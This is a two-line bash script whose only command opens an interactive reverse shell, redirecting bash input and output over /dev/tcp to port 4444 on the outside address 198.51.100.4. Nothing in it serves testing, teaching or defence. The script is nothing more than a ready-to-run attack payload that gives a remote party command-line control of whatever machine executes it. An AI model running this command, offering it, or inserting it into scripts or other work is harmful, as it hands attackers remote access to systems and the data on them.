#!/bin/bash
bash -i >& /dev/tcp/198.51.100.4/4444 0>&1
